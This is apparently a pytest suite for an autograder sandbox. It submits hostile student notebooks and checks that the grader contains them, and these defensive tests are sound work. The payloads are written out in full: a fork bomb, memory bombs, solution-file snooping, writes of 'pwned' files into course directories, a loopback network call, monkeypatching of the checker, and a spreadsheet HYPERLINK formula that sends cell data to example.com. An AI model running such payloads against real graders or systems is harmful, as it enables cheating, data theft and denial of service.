"""The grader against hostile and broken submissions, all graded in one batch.

Every student below is a chapter-1 notebook built from the release (or a broken file).
One grader run grades them side by side (2 workers, a short cell time limit); each test
asserts that student's honest score and status, and (``_honest``) that the others in the
same batch got theirs, that the submissions folder and the course files the hostile answers
attack (chapter 1's source and release, the checks, the data helpers, the grader's config)
are byte-identical afterwards, and that no file in the course root belongs to a sandbox user.
Other tests check that nothing the sandbox wrote escaped, that no process of a sandbox user
is left running, and that the loopback listener was never reached.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import json
import os
import socket
import threading
import uuid
from pathlib import Path

import pytest

from grader.cells import grade_id, is_grade, nbgrader
from grader.authoring.config import ROOT
from grader.sandbox.process import available
from tests.support import hand_in, sandbox_processes_left, student_notebook

pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(available() is not None, reason=f"no sandbox here: {available()}")]

CH1 = "01-convolution-by-hand"
FULL = 8.0
WRONG = {  # convolve and the second quiz question wrong: 4 of 8
    "convolve_answer": "def convolve(img, kernel):\n    return torch.zeros(img.shape[0] - kernel.shape[0] + 1, "
                       "img.shape[1] - kernel.shape[1] + 1)",
    "quiz_edge_kernel_answer": 'quiz_edge_kernel = "right_edge"',
}
MARK = uuid.uuid4().hex[:12]  # names of files a hostile answer tries to leave behind
#: A student folder named like a spreadsheet formula (no slash: it is one folder name).
FORMULA = '=HYPERLINK(CONCATENATE("https:",CHAR(47),CHAR(47),"example.com?g="&A1),"Click for your grade")'


def _grade_id(cell) -> str | None:
    return grade_id(cell)


def _cell(nb, grade_id):
    return next(c for c in nb.cells if _grade_id(c) == grade_id)


def _prepend(nb, grade_id, code):
    cell = _cell(nb, grade_id)
    cell.source = code + "\n" + cell.source
    return nb


def _append_after(nb, grade_id, code):
    index = next(i for i, c in enumerate(nb.cells) if _grade_id(c) == grade_id)
    new = copy.deepcopy(nb.cells[index])
    new.metadata = {}
    new.source = code
    new["id"] = f"extra-{index}"
    nb.cells.insert(index + 1, new)
    return nb


class Listener:
    """A TCP listener on 127.0.0.1 that records every connection it accepts."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.accepted: list[bytes] = []
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while self.running:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            conn.settimeout(1)
            try:
                self.accepted.append(conn.recv(100) or b"(connected)")
            except OSError:
                self.accepted.append(b"(connected)")
            conn.close()

    def close(self) -> None:
        self.running = False
        self.thread.join()
        self.sock.close()


def _students(subs: Path, port: int) -> None:
    """Hand in one notebook (or broken file) per hostile case."""
    correct = lambda: student_notebook(CH1)  # noqa: E731
    hand_in(subs, "correct", correct(), f"{CH1}.ipynb")
    hand_in(subs, "blank", student_notebook(CH1, "blank"), f"{CH1}.ipynb")
    hand_in(subs, "wrong", student_notebook(CH1, WRONG), "chapter1.ipynb")
    hand_in(subs, "renamed", correct(), "My homework (1).ipynb")

    # -- time and processes
    hand_in(subs, "loop", _prepend(correct(), "convolve_answer", "while True:\n    pass"), "nb.ipynb")
    hand_in(subs, "stubborn", _prepend(correct(), "convolve_answer", (
        "import signal, time\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
        "signal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    try:\n        time.sleep(1)\n"
        "    except BaseException:\n        pass")), "nb.ipynb")
    hand_in(subs, "sysexit", _append_after(correct(), "top_edge", "import sys\nsys.exit(3)"), "nb.ipynb")
    hand_in(subs, "osexit", _append_after(correct(), "apply_kernel_answer", "import os\nos._exit(0)"), "nb.ipynb")
    hand_in(subs, "osexit_answer", student_notebook(CH1, {
        "apply_kernel_answer": "import os\ndef apply_kernel(img, row, col, kernel):\n"
                               "    return (img[row - 1:row + 2, col - 1:col + 2] * kernel).sum()\nos._exit(1)"}),
            "nb.ipynb")
    hand_in(subs, "membomb", _prepend(correct(), "convolve_answer", "hog = bytearray(64 * 2**30)"), "nb.ipynb")
    hand_in(subs, "tensorbomb", _prepend(correct(), "convolve_answer",
                                         "import torch\nhog = torch.ones(2**36, dtype=torch.uint8)"), "nb.ipynb")
    hand_in(subs, "chatty", _append_after(correct(), "convolve", (
        "import sys, warnings\nwarnings.warn('a PyTorch-style UserWarning', UserWarning)\n"
        "print('warning on stderr', file=sys.stderr)\nline = 'x' * 1_000_000\n"
        "for _ in range(300):\n    print(line)")), "nb.ipynb")
    hand_in(subs, "forkbomb", _append_after(correct(), "convolve", "import os\nwhile True:\n    os.fork()"),
            "nb.ipynb")
    hand_in(subs, "spawner", _append_after(correct(), "quiz_edge_kernel", (
        "import subprocess\nsubprocess.Popen(['sleep', '600'], start_new_session=True)\n"
        "import os\nif os.fork() == 0:\n    os.setsid()\n    import time\n    time.sleep(600)")), "nb.ipynb")

    # -- broken files
    (subs / "notjson").mkdir()
    (subs / "notjson" / "homework.ipynb").write_text("this is not a notebook")
    (subs / "empty").mkdir()
    (subs / "empty" / "homework.ipynb").write_text("")
    full_text = (subs / "correct" / f"{CH1}.ipynb").read_text()
    (subs / "truncated").mkdir()
    (subs / "truncated" / "homework.ipynb").write_text(full_text[: len(full_text) // 2])

    # -- test cells and metadata
    nb = correct()
    nb.cells = [c for c in nb.cells if _grade_id(c) not in ("top_edge", "convolve")]
    hand_in(subs, "deleted_tests", nb, "nb.ipynb")
    nb = correct()
    index = next(i for i, c in enumerate(nb.cells) if _grade_id(c) == "convolve")
    nb.cells.insert(index + 1, copy.deepcopy(nb.cells[index]))
    nb.cells[index + 1]["id"] = "copy-of-convolve"
    hand_in(subs, "duplicated_tests", nb, "nb.ipynb")
    nb = student_notebook(CH1, WRONG)
    for key in ("convolve", "quiz_edge_kernel"):
        _cell(nb, key).source = "pass  # nothing to see here"
    hand_in(subs, "edited_tests", nb, "nb.ipynb")
    nb = student_notebook(CH1, WRONG)
    for cell in nb.cells:
        if is_grade(cell):
            nbgrader(cell)["points"] = 100
    bonus = _append_after(nb, "quiz_edge_kernel", "bonus = True")
    extra = next(c for c in bonus.cells if c.source == "bonus = True")
    extra.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus", "locked": True, "points": 50,
                                  "schema_version": 3, "solution": False, "task": False}
    hand_in(subs, "inflated", bonus, "nb.ipynb")
    nb = student_notebook(CH1, WRONG)
    for key in ("convolve", "quiz_edge_kernel"):
        _cell(nb, key).metadata["tags"] = ["skip-execution", "raises-exception"]
    hand_in(subs, "tagged", nb, "nb.ipynb")

    # -- cheating inside the kernel
    hand_in(subs, "patch_allclose", _prepend(student_notebook(CH1, WRONG), "convolve_answer", (
        "import torch\ntorch.allclose = lambda *a, **k: True\n"
        "torch.isclose = lambda a, b, **k: torch.ones(torch.broadcast_shapes(a.shape, b.shape), dtype=torch.bool)\n"
        "torch.Tensor.__eq__ = lambda self, other: True")), "nb.ipynb")
    hand_in(subs, "patch_conv2d", _prepend(student_notebook(CH1, WRONG), "convolve_answer", (
        "import torch, torch.nn.functional as F\n"
        "F.conv2d = lambda x, w, *a, **k: torch.zeros(*x.shape[:2], x.shape[-2] - w.shape[-2] + 1, "
        "x.shape[-1] - w.shape[-1] + 1, dtype=x.dtype)\ntorch.conv2d = F.conv2d")), "nb.ipynb")
    hand_in(subs, "patch_helpers", _prepend(student_notebook(CH1, WRONG), "convolve_answer", (
        "import helpers.checks as hc\nfrom helpers.checks import core\n"
        "passed = lambda self, *a, **k: core.Verdict(self.key, self.title, self.points, self.points, 1, "
        "status='passed')\n"
        "core.Exercise.judge = passed\ncore.Exercise.verdict = passed\n"
        "core.Exercise.collect = lambda self, answer, hidden=False: []\n"
        "core.compare_tensor = lambda *a, **k: None\nhc.check = lambda *a, **k: None\n"
        "get_ipython().user_ns['check'] = lambda *a, **k: None")), "nb.ipynb")
    hand_in(subs, "lookalike", student_notebook(CH1, {
        "quiz_output_size_answer": "class Anything(tuple):\n    def __eq__(self, other):\n        return True\n"
                                   "quiz_output_size = Anything((1, 1))",
        "convolve_answer": "import torch.nn.functional as F\nclass Mine(torch.Tensor):\n    pass\n"
                           "def convolve(img, kernel):\n    return torch.zeros(3, 3).as_subclass(Mine)"}),
            "nb.ipynb")

    # -- reaching out of the sandbox
    other = subs / "correct" / f"{CH1}.ipynb"
    steal = (
        "import json, pathlib\nconvolve = None\n"
        f"for path in [{str(ROOT / 'solutions' / CH1 / (CH1 + '.ipynb'))!r}, {str(other)!r}, "
        f"{str(ROOT / 'gradebook.db')!r}, '../../solutions/{CH1}/{CH1}.ipynb']:\n"
        "    try:\n        text = pathlib.Path(path).read_text()\n    except OSError:\n        continue\n"
        "    for cell in json.loads(text)['cells']:\n        if 'def convolve' in ''.join(cell['source']):\n"
        "            exec(''.join(cell['source']))\n")
    hand_in(subs, "snoop", student_notebook(CH1, {"convolve_answer": steal}), "nb.ipynb")
    targets = [ROOT / f"pwned-{MARK}.txt", ROOT / "solutions" / f"pwned-{MARK}.txt",
               ROOT / "helpers" / f"pwned-{MARK}.py", other.parent / f"pwned-{MARK}.txt",
               Path("/tmp") / f"pwned-{MARK}.txt", ROOT / "helpers" / "checks" / "core.py",
               ROOT / "solutions" / CH1 / f"{CH1}.ipynb"]
    write = ("import os\nwritten = []\n"
             f"for path in {[str(t) for t in targets]!r}:\n"
             "    try:\n        with open(path, 'a') as handle:\n            handle.write('pwned')\n"
             "        written.append(path)\n    except OSError:\n        pass\n"
             "try:\n    os.makedirs('../escape', exist_ok=True)\nexcept OSError:\n    pass")
    hand_in(subs, "writer", _append_after(correct(), "top_edge", write), "nb.ipynb")
    net = ("import socket\ntry:\n"
           f"    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'pwned')\n"
           "    reached = True\nexcept OSError:\n    reached = False\n"
           "def convolve(img, kernel):\n    if not reached:\n        return None\n"
           "    return torch.nn.functional.conv2d(img[None, None], kernel[None, None])[0, 0]")
    hand_in(subs, "network", student_notebook(CH1, {"convolve_answer": net}), "nb.ipynb")

    # -- the by-hand rule: every route to torch's convolution from student code (issue 11)
    by_hand = lambda code: student_notebook(CH1, {"convolve_answer": code})  # noqa: E731
    conv = "F.conv2d(img[None, None], kernel[None, None])[0, 0]"
    hand_in(subs, "byhand_patched_checker", _prepend(by_hand(
        f"import torch.nn.functional as F\ndef convolve(img, kernel):\n    return {conv}"), "convolve_answer", (
        "import contextlib, helpers.checks as hc, helpers.checks.core as core, helpers.checks.byhand as bh\n"
        "import helpers.checks.allowed_ops as ao\n"
        "for ex in hc.exercises():\n    ex.forbid = frozenset()\n"
        "core.forbidding = lambda *a, **k: contextlib.nullcontext()\ncore.CONVOLUTION_OPS = frozenset()\n"
        "ao.ALLOWED = frozenset(ao.all_aten_ops())\nao._KERNEL_OPS = ()\n"
        "bh.refuse_spawning = lambda: None")), "nb.ipynb")
    hand_in(subs, "byhand_guard_removed", by_hand(
        "import torch.nn.functional as F\nfrom torch.utils._python_dispatch import _disable_current_modes\n"
        f"def convolve(img, kernel):\n    with _disable_current_modes():  # pops every mode, pushes them back\n"
        f"        return {conv}"), "nb.ipynb")
    hand_in(subs, "byhand_thread", by_hand(
        "import threading, torch.nn.functional as F\ndef convolve(img, kernel):\n    out = []\n"
        f"    worker = threading.Thread(target=lambda: out.append({conv}))\n"
        "    worker.start()\n    worker.join()\n    return out[0]"), "nb.ipynb")
    hand_in(subs, "byhand_process", by_hand(
        "import subprocess, sys, torch\ndef convolve(img, kernel):\n"
        "    torch.save((img, kernel), '/tmp/in.pt')\n"
        "    subprocess.run([sys.executable, '-c', 'import torch, torch.nn.functional as F; img, kernel = '\n"
        f"                    'torch.load(\"/tmp/in.pt\"); torch.save({conv}, \"/tmp/out.pt\")'], check=True)\n"
        "    return torch.load('/tmp/out.pt')"), "nb.ipynb")
    hand_in(subs, "byhand_table", by_hand(
        "import torch, torch.nn.functional as F\nfrom helpers.checks import exercise\n_table = {}\n"
        "for _hidden in (False, True):  # every case the course's own API lists\n"
        "    for _case in exercise('convolve').make_cases(_hidden):\n        img, kernel = _case.args\n"
        f"        _table[repr((img.tolist(), kernel.tolist()))] = {conv}\n"
        "def convolve(img, kernel):\n    key = repr((img.tolist(), kernel.tolist()))\n"
        "    return _table.get(key, torch.zeros(img.shape[0] - kernel.shape[0] + 1, "
        "img.shape[1] - kernel.shape[1] + 1))"), "nb.ipynb")
    hand_in(subs, "byhand_numpy_windows", by_hand(
        "import numpy as np, torch\n"
        "from numpy.lib.stride_tricks import sliding_window_view  # saved before the check\n"
        "def convolve(img, kernel):\n"
        "    windows = sliding_window_view(img, kernel.shape)\n"
        "    return torch.from_numpy(np.einsum('ijkl,kl->ij', windows, kernel.numpy()).astype('float32'))"),
        "nb.ipynb")
    # NumPy's and SciPy's compiled code, reached where no Python function can be refused (issue 25)
    hand_in(subs, "byhand_numpy_strided", by_hand(
        "import numpy as np, torch\n"
        "def convolve(img, kernel):\n"
        "    a, k = np.array(img.tolist(), dtype=np.float32), np.array(kernel.tolist(), dtype=np.float32)\n"
        "    (h, w), (kh, kw) = a.shape, k.shape\n"
        "    windows = np.ndarray((h - kh + 1, w - kw + 1, kh, kw), a.dtype, buffer=a, strides=a.strides * 2)\n"
        "    return torch.tensor((windows * k).sum((2, 3)).tolist())"), "nb.ipynb")
    hand_in(subs, "byhand_scipy_private", by_hand(
        "import torch\nfrom scipy.signal import _sigtools\n"
        "def convolve(img, kernel):\n"
        "    return torch.tensor(_sigtools._convolve2d(img.tolist(), kernel.flip(0, 1).tolist(), 1, 0, 0, 0).tolist())"),
        "nb.ipynb")
    hand_in(subs, "byhand_numpy_bridge", by_hand(
        "import numpy as np, torch\n"
        "def convolve(img, kernel):\n"
        "    a, k = img.numpy(), kernel.numpy()\n"
        "    out = np.zeros((a.shape[0] - k.shape[0] + 1, a.shape[1] - k.shape[1] + 1), dtype=np.float32)\n"
        "    for i in range(out.shape[0]):\n        for j in range(out.shape[1]):\n"
        "            out[i, j] = (a[i:i + k.shape[0], j:j + k.shape[1]] * k).sum()\n"
        "    return torch.from_numpy(out)"), "nb.ipynb")

    # -- files no batch step may choke on (issue 11)
    (subs / "deep_json").mkdir()
    (subs / "deep_json" / "homework.ipynb").write_text('{"cells": ' + "[" * 200_000 + "]" * 200_000 + "}")
    (subs / "old_format").mkdir()
    (subs / "old_format" / "homework.ipynb").write_text('{"nbformat": 3, "worksheets": [{"cells": []}]}')
    nb = json.loads(json.dumps(correct()))
    nb["cells"] = [1, None, "cell", []] + nb["cells"]
    nb["metadata"] = {"kernelspec": 7, "nbgrader": ["x" * 3_000_000], "language_info": None}
    for cell in nb["cells"][4:]:
        if cell.get("cell_type") == "markdown":
            cell["metadata"] = "not a dict"
    nb["nbformat"], nb["nbformat_minor"] = 99, "five"
    (subs / "odd_metadata").mkdir()
    (subs / "odd_metadata" / "homework.ipynb").write_text(json.dumps(nb))
    hand_in(subs, FORMULA, correct(), "nb.ipynb")


def _digest(paths) -> dict[str, str]:
    found = {}
    for base in paths:
        files = [base] if base.is_file() else sorted(p for p in base.rglob("*") if p.is_file()) \
            if base.is_dir() else []
        for p in files:
            if "__pycache__" not in p.parts:
                found[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
    return found


def _course_files() -> list[Path]:
    """The course files a hostile answer attacks (the whole of chapter 1, the grader, the checks)."""
    checks = ROOT / "helpers" / "checks"
    return [ROOT / "solutions" / CH1, ROOT / "notebooks" / CH1, checks / "core.py", checks / "__init__.py",
            checks / "ch01.py", ROOT / "helpers" / "data.py", ROOT / "grader" / "authoring" / "config.py",
            ROOT / "pyproject.toml", ROOT / "nbgrader_config.py"]


def _walk(base: Path):
    """Every file and folder under ``base`` except the virtualenv and git's own."""
    for dirpath, dirnames, filenames in os.walk(base):
        dirnames[:] = [d for d in dirnames if d not in (".venv", ".git")]
        for name in dirnames + filenames:
            yield Path(dirpath) / name


def _owner(path: Path) -> int:
    try:
        return path.lstat().st_uid
    except OSError:  # removed meanwhile (other work in the checkout)
        return -1


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    from grader.__main__ import main

    tmp = tmp_path_factory.mktemp("hostile")
    subs, out = tmp / "submissions", tmp / "out"
    listener = Listener()
    try:
        _students(subs, listener.port)
        before_subs, before_course = _digest([subs]), _digest(_course_files())
        code = main(["autograde", str(subs), "--out", str(out), "--workers", "2", "--cell-timeout", "6",
                     "--timeout", "150"])
    finally:
        listener.close()
    full_report = json.loads((out / "report.json").read_text())
    report = {s["student"]: s for s in full_report["submissions"]}
    rows = list(csv.DictReader(open(out / "grades.csv")))
    after_course = _digest(_course_files())
    uids = range(full_report["sandbox"]["uids"][0], full_report["sandbox"]["uids"][1] + 1)
    owned = [str(p) for p in _walk(ROOT) if _owner(p) in uids]
    changed = sorted(k for k in set(before_course) | set(after_course) if before_course.get(k) != after_course.get(k))
    return {"code": code, "out": out, "sandbox": full_report["sandbox"], "subs": subs, "report": report, "rows": rows, "listener": listener,
            "same_subs": before_subs == _digest([subs]), "changed_course": changed, "owned": owned,
            "leftover": sandbox_processes_left(uids)}


def score(batch, student) -> tuple[float, float]:
    rows = [r for r in batch["rows"] if r["student"] == student]
    return sum(float(r["score"]) for r in rows), sum(float(r["max_score"]) for r in rows)


def statuses(batch, student) -> dict[str, str]:
    return {r["exercise"]: r["status"] for r in batch["rows"] if r["student"] == student}


def cells(batch, student) -> str:
    return " | ".join(f"{c['cell']}: {c['cause']}" for c in batch["report"][student]["cells"])


def tampering(batch, student) -> str:
    return " | ".join(batch["report"][student]["tampering"])


def _honest(batch, student, expected):
    assert batch["report"][student]["status"] == "graded", batch["report"][student]
    assert score(batch, student) == (expected, FULL), (student, statuses(batch, student), cells(batch, student))
    # the others in the same batch got theirs, and nothing leaked out of any sandbox
    assert score(batch, "correct") == (FULL, FULL) and score(batch, "renamed") == (FULL, FULL)
    assert score(batch, "wrong") == (4.0, FULL) and score(batch, "blank") == (0.0, FULL)
    assert batch["code"] == 0
    assert batch["same_subs"], "the submissions folder changed"
    assert batch["changed_course"] == [], "the course files changed"
    assert batch["owned"] == [], "a sandbox user created files in the course root"


# -- plain submissions ----------------------------------------------------------

def test_correct_blank_wrong(batch):
    _honest(batch, "correct", FULL)
    assert set(statuses(batch, "correct").values()) == {"passed"}
    assert set(statuses(batch, "blank").values()) == {"not attempted"}
    assert statuses(batch, "wrong") == {"top_edge": "passed", "apply_kernel": "passed", "convolve": "failed",
                                        "quiz_output_size": "passed", "quiz_edge_kernel": "failed"}


def test_renamed_notebook(batch):
    _honest(batch, "renamed", FULL)
    assert batch["report"]["renamed"]["file"] == "My homework (1).ipynb"


# -- time, exits, memory, output -------------------------------------------------

def test_infinite_loop_costs_only_its_exercise(batch):
    _honest(batch, "loop", FULL - 3)
    assert statuses(batch, "loop")["convolve"] == "error"
    row = next(e for e in batch["report"]["loop"]["exercises"] if e["exercise"] == "convolve")
    assert "convolve_answer" in row["message"] and "interrupted" in row["message"]
    assert "convolve_answer" in cells(batch, "loop") and "interrupted" in cells(batch, "loop")


def test_loop_that_ignores_interrupts_is_killed_and_the_rest_graded(batch):
    _honest(batch, "stubborn", FULL - 3)
    assert "did not stop when interrupted" in cells(batch, "stubborn")
    assert "convolve_answer" in cells(batch, "stubborn")


def test_sys_exit_is_an_ordinary_error(batch):
    _honest(batch, "sysexit", FULL)


def test_os_exit_loses_nothing_earned(batch):
    # os._exit in a cell of its own: the kernel dies, is restarted, nothing depends on that cell
    _honest(batch, "osexit", FULL)
    assert "exit code 0" in cells(batch, "osexit")
    # os._exit inside the answer cell: that answer is lost (its cell is not re-run), nothing else
    _honest(batch, "osexit_answer", FULL - 2)
    assert statuses(batch, "osexit_answer")["apply_kernel"] == "error"
    assert "apply_kernel_answer" in cells(batch, "osexit_answer") and "exit code 1" in cells(batch, "osexit_answer")


def test_memory_bombs(batch):
    _honest(batch, "membomb", FULL - 3)
    _honest(batch, "tensorbomb", FULL - 3)


def test_hundreds_of_megabytes_of_output_and_warnings_on_stderr(batch):
    _honest(batch, "chatty", FULL)


def test_fork_bomb_is_contained(batch):
    _honest(batch, "forkbomb", FULL)
    # Without root (a user namespace, see grader.sandbox.process) there are no groups: the rlimits hold it.
    assert batch["sandbox"]["cgroups"] == "cpu, memory and pids groups per worker" if os.geteuid() == 0 \
        else "per-process limits only" in batch["sandbox"]["cgroups"]


def test_no_process_outlives_grading(batch):
    _honest(batch, "spawner", FULL)
    assert batch["leftover"] == []


# -- broken files ----------------------------------------------------------------

@pytest.mark.parametrize("student, words", [("notjson", "not valid JSON"), ("empty", "empty"),
                                            ("truncated", "not valid JSON")])
def test_broken_files_are_reported(batch, student, words):
    entry = batch["report"][student]
    assert entry["status"] == "unreadable" and words in entry["reason"]
    assert score(batch, student) == (0.0, 0.0)
    _honest(batch, "correct", FULL)


# -- test cells and metadata -------------------------------------------------------

def test_deleted_test_cells_are_restored(batch):
    _honest(batch, "deleted_tests", FULL)
    assert "`top_edge` was missing" in tampering(batch, "deleted_tests")
    assert "`convolve` was missing" in tampering(batch, "deleted_tests")


def test_duplicated_test_cell_runs_once(batch):
    _honest(batch, "duplicated_tests", FULL)
    assert "second copy of test cell `convolve`" in tampering(batch, "duplicated_tests")


def test_edited_test_cells_are_replaced(batch):
    _honest(batch, "edited_tests", 4.0)
    assert "`convolve` was edited" in tampering(batch, "edited_tests")


def test_inflated_points_are_ignored(batch):
    _honest(batch, "inflated", 4.0)
    assert "bonus" not in statuses(batch, "inflated")
    assert "claims 100 points" in tampering(batch, "inflated") and "'bonus'" in tampering(batch, "inflated")


def test_execution_tags_are_ignored(batch):
    _honest(batch, "tagged", 4.0)
    assert "skip-execution" in tampering(batch, "tagged")


# -- cheating inside the kernel ----------------------------------------------------

@pytest.mark.parametrize("student", ["patch_allclose", "patch_conv2d", "patch_helpers"])
def test_monkeypatching_changes_nothing(batch, student):
    _honest(batch, student, 4.0)
    assert statuses(batch, student)["convolve"] == "failed"


def test_lookalike_values_are_refused(batch):
    _honest(batch, "lookalike", FULL - 4)
    assert statuses(batch, "lookalike")["quiz_output_size"] == "failed"
    assert statuses(batch, "lookalike")["convolve"] == "failed"


# -- reaching out of the sandbox ---------------------------------------------------

def test_solutions_gradebook_and_other_students_are_out_of_reach(batch):
    _honest(batch, "snoop", FULL - 3)


def test_writes_outside_its_folder_do_not_land(batch):
    _honest(batch, "writer", FULL)
    assert not list(ROOT.rglob(f"pwned-{MARK}*")) and not Path(f"/tmp/pwned-{MARK}.txt").exists()
    assert not list(batch["subs"].rglob(f"pwned-{MARK}*"))


def test_no_network_not_even_loopback(batch):
    _honest(batch, "network", FULL - 3)
    assert batch["listener"].accepted == []


# -- outputs ------------------------------------------------------------------------

def test_feedback_is_escaped_and_has_no_test_code(batch):
    for student in ("correct", "wrong", "lookalike", "patch_helpers"):
        html = (batch["out"] / "feedback" / student / f"{CH1}.html").read_text()
        assert "hidden=True" not in html and "check(" not in html and "<script" not in html.lower()
        assert "convolve" in html
    assert "expected" in (batch["out"] / "feedback" / "wrong" / f"{CH1}.html").read_text()


def test_every_submission_has_a_result(batch):
    students = {p.name for p in batch["subs"].iterdir()}
    assert set(batch["report"]) == students
    assert all(s["status"] in ("graded", "unreadable") for s in batch["report"].values())


# -- the by-hand rule (issue 11): each route costs `convolve` its 3 points, and says why --------

@pytest.mark.parametrize("student, words", [
    ("byhand_patched_checker", "the checking code was changed by an earlier cell"),
    ("byhand_guard_removed", "must be computed by hand, but it called torch's built-in"),
    ("byhand_thread", "tried to start a thread"),
    ("byhand_process", "tried to start a process"),
    ("byhand_table", "the instructor's hidden checks did not"),
    # NumPy's functions are dispatched by its compiled code: locked before any Python-level refusal sees them
    ("byhand_numpy_windows", "ran compiled code of a library other than torch (line 4: `windows = sliding_window_view"),
    ("byhand_numpy_strided", "ran compiled code of a library other than torch (line 3: `a, k = np.array(img.tolist()"),
    ("byhand_scipy_private", "ran compiled code of a library other than torch (line 4: `return torch.tensor(_sigtools"),
    ("byhand_numpy_bridge", "must be computed by hand, but it called `Tensor.numpy`"),
])
def test_every_route_around_the_by_hand_rule_costs_the_points(batch, student, words):
    _honest(batch, student, FULL - 3)
    row = next(e for e in batch["report"][student]["exercises"] if e["exercise"] == "convolve")
    assert row["status"] == "failed" and words in row["message"], row["message"]
    assert "\n" not in row["message"]


def test_hidden_cases_come_from_the_course_secret(batch):
    from grader.grading.secret import default_path, fingerprint, load

    hidden = json.loads((batch["out"] / "report.json").read_text())["hidden_cases"]
    assert hidden["fingerprint"] == fingerprint(load(default_path()))
    assert str(default_path()) in hidden["from"]
    assert not default_path().resolve().is_relative_to(ROOT.resolve())


# -- files no batch step may choke on (issue 11) ------------------------------------------------

def test_unreadable_files_get_a_one_line_reason_and_the_batch_goes_on(batch):
    assert batch["report"]["deep_json"]["status"] == "unreadable"
    assert "nested too deeply" in batch["report"]["deep_json"]["reason"]
    assert "nbformat 3" in batch["report"]["old_format"]["reason"]
    assert all("\n" not in s["reason"] for s in batch["report"].values())
    _honest(batch, "correct", FULL)


def test_wrong_types_anywhere_in_the_metadata_change_nothing(batch):
    _honest(batch, "odd_metadata", FULL)


# -- spreadsheet-safe CSV (issue 11) ------------------------------------------------------------

def test_a_formula_for_a_name_is_text_in_the_csv_and_raw_in_the_report(batch):
    formula = FORMULA
    assert batch["report"][formula]["status"] == "graded" and batch["report"][formula]["score"] == FULL
    names = {r["student"] for r in batch["rows"]}
    assert formula not in names and "'" + formula in names
    assert not any(r[c].startswith(("=", "+", "-", "@", "\t", "\r")) for r in batch["rows"] for c in r)
